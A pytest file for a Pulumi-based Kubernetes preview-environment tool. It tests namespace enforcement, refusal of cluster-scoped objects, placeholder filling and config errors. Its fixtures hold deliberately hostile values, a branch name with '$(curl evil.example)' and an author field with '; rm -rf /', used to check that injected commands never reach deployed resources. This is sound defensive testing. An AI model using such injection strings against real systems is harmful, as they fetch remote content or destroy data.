"""Bring-your-own app under Pulumi mocks: config errors, placeholders, the guard's rules, and what gets registered.

The provider's render invokes (``kubernetes:helm:template``, ``kubernetes:kustomize:directory``) are answered by the
mocks with fixed objects, so these tests check prenv's side: what it sends, what it refuses, what it registers.
The provider's own rendering and the transform on real children are covered by
tests/integration/test_workload_stack.py.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pulumi
import pytest

from components.workload import Guard, prepare
from prenv import stackconfig
from prenv.errors import ConfigError
from testsupport.pulumi_harness import Registry, run

SHA = "0123456789abcdef0123456789abcdef01234567"
HOSTILE_BRANCH = "feat/$(curl evil.example){sha}"
HOSTILE_AUTHOR = "mallory; rm -rf / {namespace}"
ROOT = Path(__file__).resolve().parents[2]


def config(app: dict[str, Any], **template: Any) -> stackconfig.StackConfig:
    base: dict[str, Any] = {
        "baseDomain": "preview.example.com",
        "image": {"repository": "registry.example.com/acme/shop"},
        "app": app,
    }
    base.update(template)
    return stackconfig.load({**base, "pr": 7, "sha": SHA, "author": HOSTILE_AUTHOR, "branch": HOSTILE_BRANCH})


@dataclass
class Rendering(Registry):
    """Mocks whose render invokes return ``objects`` (or fail with ``error``) and record what they were asked."""

    objects: list[dict[str, Any]] = field(default_factory=list)
    error: str | None = None
    invokes: list[tuple[str, dict[str, Any]]] = field(default_factory=list)

    def call(self, args: pulumi.runtime.MockCallArgs) -> tuple[dict[str, Any], list[tuple[str, str]] | None]:
        self.invokes.append((args.token, dict(args.args)))
        if self.error is not None:
            return {}, [("jsonOpts", self.error)]  # how a provider reports a failed invoke
        return {"result": self.objects}, []


def deployment(name: str = "web", namespace: str | None = None, **meta: Any) -> dict[str, Any]:
    metadata: dict[str, Any] = {"name": name, **meta}
    if namespace is not None:
        metadata["namespace"] = namespace
    return {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": metadata,
        "spec": {"template": {"metadata": {"labels": {"app": name}}, "spec": {"containers": []}}},
    }


def guard(**kw: Any) -> Guard:
    return Guard(**{"namespace": "pr-7", "sha": SHA, "key": "prenv:app.chart", **kw})


# --- the guard: every rendered object passes it, in the program's check and in the transform ---------------------


def test_a_namespace_the_chart_sets_is_overridden_with_the_prs() -> None:
    out = guard().object(deployment(namespace="kube-system"))
    assert out["metadata"]["namespace"] == "pr-7"


def test_every_workload_pod_template_carries_the_sha_so_each_push_rolls() -> None:
    for kind in ("Deployment", "StatefulSet", "DaemonSet"):
        out = guard().object({**deployment(namespace="x"), "kind": kind})
        assert out["spec"]["template"]["metadata"]["annotations"]["prenv.dev/sha"] == SHA
        assert out["spec"]["template"]["metadata"]["labels"] == {"app": "web"}


def test_workload_pods_carry_prenv_labels_beside_their_own_and_selectors_are_untouched() -> None:
    dep = deployment(namespace="x")
    dep["spec"]["selector"] = {"matchLabels": {"app": "web"}}
    out = guard(labels={"prenv.dev/pr": "7"}).object(dep)
    assert out["spec"]["template"]["metadata"]["labels"] == {"app": "web", "prenv.dev/pr": "7"}
    assert out["spec"]["selector"] == {"matchLabels": {"app": "web"}}


def test_a_job_template_is_left_alone_since_it_cannot_change_in_place() -> None:
    job = {**deployment(namespace="x"), "kind": "Job"}
    assert "annotations" not in guard().object(job)["spec"]["template"]["metadata"]


def test_objects_get_prenv_labels_and_ownership_and_keep_their_own() -> None:
    out = guard(labels={"prenv.dev/pr": "7"}).object(deployment(namespace="x", labels={"team": "a"}))
    assert out["metadata"]["labels"] == {"team": "a", "prenv.dev/pr": "7"}
    assert out["metadata"]["annotations"]["pulumi.com/patchForce"] == "true"


def test_services_skip_the_endpoint_settle_sleep_and_ingresses_wait_for_admission() -> None:
    svc = guard().object({"apiVersion": "v1", "kind": "Service", "metadata": {"name": "web", "namespace": "x"}})
    assert svc["metadata"]["annotations"]["pulumi.com/skipAwait"] == "true"
    ing = guard().object({"kind": "Ingress", "metadata": {"name": "w", "namespace": "x"}})
    assert ing["metadata"]["annotations"]["pulumi.com/waitFor"] == "jsonpath={.status.loadBalancer.ingress}"
    own = {"pulumi.com/waitFor": "condition=Ready"}
    kept = guard().object({"kind": "Ingress", "metadata": {"name": "w", "namespace": "x", "annotations": own}})
    assert kept["metadata"]["annotations"]["pulumi.com/waitFor"] == "condition=Ready"
    assert "pulumi.com/skipAwait" not in kept["metadata"]["annotations"]


@pytest.mark.parametrize(
    "obj",
    [
        {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole", "metadata": {"name": "admin-all"}},
        {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "admin-all"}},
        {"apiVersion": "example.com/v1", "kind": "Widget", "metadata": {"name": "admin-all"}},  # no namespace
    ],
    ids=["cluster-role", "namespace", "unknown-kind-left-without-namespace"],
)
def test_a_cluster_scoped_object_is_refused_naming_its_kind_and_name(obj: dict[str, Any]) -> None:
    with pytest.raises(ConfigError) as e:
        guard().object(obj)
    assert e.value.key == "prenv:app.chart"
    assert f"{obj['kind']}/admin-all" in str(e.value)


def test_a_cluster_scoped_object_on_the_allow_list_is_kept_without_a_namespace() -> None:
    role = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole", "metadata": {"name": "reader"}}
    for allow in (("ClusterRole/reader",), ("ClusterRole",)):
        out = guard(allow=allow).object(role)
        assert "namespace" not in out["metadata"]
    with pytest.raises(ConfigError):
        guard(allow=("ClusterRole/other",)).object(role)


def test_before_the_provider_normalises_only_known_cluster_kinds_are_refused() -> None:
    out = guard().object(deployment(), normalized=False)  # the check's render: no namespace yet
    assert out["metadata"]["namespace"] == "pr-7"


def test_the_transform_guards_kubernetes_objects_and_leaves_components_alone() -> None:
    g = guard()
    opts = pulumi.ResourceOptions()
    comp = pulumi.ResourceTransformArgs(False, "kubernetes:helm.sh/v4:Chart", "c", {"chart": "x"}, opts)
    assert g.transform(comp) is None
    child = pulumi.ResourceTransformArgs(True, "kubernetes:apps/v1:Deployment", "d", deployment(namespace="a"), opts)
    result = g.transform(child)
    assert result is not None
    assert result.props["metadata"]["namespace"] == "pr-7"
    role = {"kind": "ClusterRole", "metadata": {"name": "x"}}
    typ = "kubernetes:rbac.authorization.k8s.io/v1:ClusterRole"
    with pytest.raises(ConfigError):
        g.transform(pulumi.ResourceTransformArgs(True, typ, "r", role, opts))


def test_the_transform_bounds_a_workloads_rollout_by_the_templates_timeout() -> None:
    g = guard(rollout_timeout="90s")
    opts = pulumi.ResourceOptions()
    dep = deployment(namespace="x")
    result = g.transform(pulumi.ResourceTransformArgs(True, "kubernetes:apps/v1:Deployment", "d", dep, opts))
    assert result is not None and result.opts is not None
    assert result.opts.custom_timeouts is not None
    assert (result.opts.custom_timeouts.create, result.opts.custom_timeouts.update) == ("90s", "90s")
    svc = {"kind": "Service", "metadata": {"name": "web", "namespace": "x"}}
    plain = g.transform(pulumi.ResourceTransformArgs(True, "kubernetes:core/v1:Service", "s", svc, opts))
    assert plain is not None and plain.opts is opts


# --- prepare: bad input fails before anything is registered, naming the key -------------------------------------


def prepared(cfg: stackconfig.StackConfig, project: Path, registry: Rendering | None = None) -> Any:
    box: dict[str, Any] = {}

    def build() -> None:
        box["p"] = prepare(cfg, project, "prenv-database")

    reg, _ = run(build, registry or Rendering())
    return box["p"], reg


def chart_dir(tmp_path: Path) -> Path:
    chart = tmp_path / "chart"
    chart.mkdir()
    (chart / "Chart.yaml").write_text("apiVersion: v2\nname: c\nversion: 0.1.0\n")
    return chart


def test_a_missing_chart_directory_is_a_config_error_naming_the_key(tmp_path: Path) -> None:
    with pytest.raises(ConfigError) as e:
        prepared(config({"kind": "helm", "chart": "charts/nope"}), tmp_path)
    assert e.value.key == "prenv:app.chart"
    assert "charts/nope" in str(e.value)


def test_a_values_file_that_is_not_yaml_is_a_config_error_naming_it(tmp_path: Path) -> None:
    chart_dir(tmp_path)
    (tmp_path / "values.yaml").write_text("image: [unclosed\n")
    with pytest.raises(ConfigError) as e:
        prepared(config({"kind": "helm", "chart": "chart", "valuesFiles": ["values.yaml"]}), tmp_path)
    assert e.value.key == "prenv:app.valuesFiles[0]"
    assert "values.yaml is not YAML" in str(e.value)


def test_an_unknown_placeholder_in_a_values_file_names_it_and_where(tmp_path: Path) -> None:
    chart_dir(tmp_path)
    (tmp_path / "values.yaml").write_text("image:\n  tag: '{branch}'\n")
    with pytest.raises(ConfigError) as e:
        prepared(config({"kind": "helm", "chart": "chart", "valuesFiles": ["values.yaml"]}), tmp_path)
    assert "prenv:app.valuesFiles[0]" in e.value.key and ".image.tag" in e.value.key
    assert "unknown placeholder {branch}" in str(e.value)


def test_a_chart_that_does_not_render_is_a_config_error_with_the_providers_reason(tmp_path: Path) -> None:
    chart_dir(tmp_path)
    registry = Rendering(error='template: c/templates/a.yaml:3: function "nope" not defined')
    with pytest.raises(ConfigError) as e:
        prepared(config({"kind": "helm", "chart": "chart"}), tmp_path, registry)
    assert e.value.key == "prenv:app.chart"
    assert 'function "nope" not defined' in str(e.value)
    assert not registry.resources


def test_a_chart_rendering_a_cluster_role_is_refused_before_anything_is_registered(tmp_path: Path) -> None:
    chart_dir(tmp_path)
    role = {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole", "metadata": {"name": "greedy"}}
    registry = Rendering(objects=[deployment(), role])
    with pytest.raises(ConfigError) as e:
        prepared(config({"kind": "helm", "chart": "chart"}), tmp_path, registry)
    assert "ClusterRole/greedy" in str(e.value)
    assert not registry.resources


def test_helm_values_files_then_inline_values_are_merged_and_filled_before_the_render(tmp_path: Path) -> None:
    chart = chart_dir(tmp_path)
    (tmp_path / "base.yaml").write_text("image: {repository: '{imageRepository}', tag: base}\nreplicas: 2\n")
    app = {
        "kind": "helm",
        "chart": "chart",
        "valuesFiles": ["base.yaml"],
        "values": {"image": {"tag": "{imageTag}"}, "env": {"PR": "{pr}", "URL": "{url}", "DB": "{databaseSecret}"}},
    }
    registry = Rendering(objects=[deployment()])
    p, _ = prepared(config(app), tmp_path, registry)
    assert p.chart == str(chart)
    assert p.values == {
        "image": {"repository": "registry.example.com/acme/shop", "tag": "pr-7"},
        "replicas": 2,
        "env": {"PR": "7", "URL": "http://app-7.preview.example.com", "DB": "prenv-database"},
    }
    token, args = registry.invokes[0]
    assert token == "kubernetes:helm:template"
    sent = json.loads(args["jsonOpts"])
    assert sent["namespace"] == "pr-7" and sent["values"] == p.values
    assert sent["path"] == str(tmp_path) and sent["chart"] == "chart"


@pytest.mark.parametrize(
    ("repo", "chart", "repository"),
    [
        ("https://charts.example.com", "shop", "https://charts.example.com"),
        ("oci://registry.example.com/charts/", "oci://registry.example.com/charts/shop", None),
    ],
    ids=["https-repository", "oci-registry"],
)
def test_a_chart_from_a_repository_is_pinned_to_its_version(
    tmp_path: Path, repo: str, chart: str, repository: str | None
) -> None:
    cfg = config({"kind": "helm", "chart": "shop", "repo": repo, "version": "1.2.3", "service": "web"})
    registry = build_environment(cfg, tmp_path, Rendering(objects=[deployment()]))
    inputs = registry.one("kubernetes:helm.sh/v4:Chart").inputs
    assert inputs["chart"] == chart
    assert inputs["version"] == "1.2.3"
    assert inputs.get("repositoryOpts") == ({"repo": repository} if repository else None)


def test_a_glob_that_matches_nothing_names_the_key_and_the_pattern(tmp_path: Path) -> None:
    (tmp_path / "k8s").mkdir()
    (tmp_path / "k8s" / "a.yaml").write_text(json.dumps(deployment()))
    with pytest.raises(ConfigError) as e:
        prepared(config({"kind": "manifests", "files": ["k8s/*.yaml", "deploy/*.yml"]}), tmp_path)
    assert e.value.key == "prenv:app.files[1]"
    assert "'deploy/*.yml' matches no file" in str(e.value)


def test_a_kustomize_directory_without_a_kustomization_is_a_config_error(tmp_path: Path) -> None:
    with pytest.raises(ConfigError) as e:
        prepared(config({"kind": "kustomize", "directory": "."}), tmp_path)
    assert e.value.key == "prenv:app.directory"


def test_kustomize_output_is_filled_and_checked_for_unknown_placeholders(tmp_path: Path) -> None:
    (tmp_path / "kustomization.yaml").write_text("resources: []\n")
    rendered = deployment()
    rendered["spec"]["template"]["spec"]["containers"] = [{"name": "a", "image": "{image}", "args": ["{oops}"]}]
    with pytest.raises(ConfigError) as e:
        prepared(config({"kind": "kustomize", "directory": "."}), tmp_path, Rendering(objects=[rendered]))
    assert e.value.key.startswith("prenv:app.directory (Deployment/web)")
    assert "{oops}" in str(e.value)


# --- what a PR stack registers -------------------------------------------------------------------------------------


def build_environment(cfg: stackconfig.StackConfig, project: Path, registry: Rendering) -> Registry:
    from components.environment import PreviewEnvironment, PreviewEnvironmentArgs

    def build() -> dict[str, Any]:
        work = prepare(cfg, project, "prenv-database")
        env = PreviewEnvironment(
            "env",
            PreviewEnvironmentArgs(
                config=cfg,
                created_at="2026-11-22T04-00-00Z",
                admin_dsn="postgresql://admin:s3cret@db:5432/postgres",
                workload=work,
            ),
        )
        return {"url": env.url}

    reg, _ = run(build, registry)
    return reg


def test_a_helm_app_registers_the_chart_in_the_pr_namespace_and_routes_the_preview_host_to_its_service(
    tmp_path: Path,
) -> None:
    chart = chart_dir(tmp_path)
    app = {"kind": "helm", "chart": "chart", "service": "web", "port": 8080, "values": {"sha": "{sha}"}}
    registry = build_environment(config(app), tmp_path, Rendering(objects=[deployment()]))
    inputs = registry.one("kubernetes:helm.sh/v4:Chart").inputs
    assert inputs["chart"] == str(chart)
    assert inputs["namespace"] == "pr-7"
    assert inputs["values"] == {"sha": SHA}
    assert not registry.of_type("kubernetes:apps/v1:Deployment")  # no built-in shape next to the chart
    ingress = registry.one("kubernetes:networking.k8s.io/v1:Ingress").inputs
    assert ingress["spec"]["rules"][0]["host"] == "web-7.preview.example.com"
    backend = ingress["spec"]["rules"][0]["http"]["paths"][0]["backend"]["service"]
    assert backend == {"name": "web", "port": {"number": 8080}}


def test_an_app_without_a_service_gets_no_prenv_ingress(tmp_path: Path) -> None:
    chart_dir(tmp_path)
    registry = build_environment(config({"kind": "helm", "chart": "chart"}), tmp_path, Rendering())
    assert not registry.of_type("kubernetes:networking.k8s.io/v1:Ingress")
    assert registry.of_type("kubernetes:core/v1:Namespace")  # the guard rails' namespace is still there


def test_manifests_are_filled_forced_into_the_namespace_and_never_see_branch_or_author(tmp_path: Path) -> None:
    (tmp_path / "k8s").mkdir()
    manifest = deployment(namespace="default")
    manifest["spec"]["template"]["spec"]["containers"] = [
        {"name": "a", "image": "{image}", "env": [{"name": "HOST", "value": "{host}"}, {"name": "S", "value": "${S}"}]}
    ]
    (tmp_path / "k8s" / "app.yaml").write_text(json.dumps(manifest) + "\n---\n")
    registry = build_environment(config({"kind": "manifests", "files": ["k8s/*.yaml"]}), tmp_path, Rendering())
    objs = registry.one("kubernetes:yaml/v2:ConfigGroup").inputs["objs"]
    assert len(objs) == 1
    (obj,) = objs
    assert obj["metadata"]["namespace"] == "pr-7"
    container = obj["spec"]["template"]["spec"]["containers"][0]
    assert container["image"] == "registry.example.com/acme/shop:pr-7"
    assert container["env"] == [{"name": "HOST", "value": "app-7.preview.example.com"}, {"name": "S", "value": "${S}"}]
    assert obj["spec"]["template"]["metadata"]["annotations"]["prenv.dev/sha"] == SHA
    everything = json.dumps([r.inputs for r in registry.resources], default=str)
    assert "curl" not in everything and "rm -rf" not in everything and "evil" not in everything


def test_the_example_chart_and_kustomize_base_exist_where_the_readme_says() -> None:
    assert (ROOT / "examples/app/chart/Chart.yaml").is_file()
    assert (ROOT / "examples/app/kustomize/kustomization.yaml").is_file()
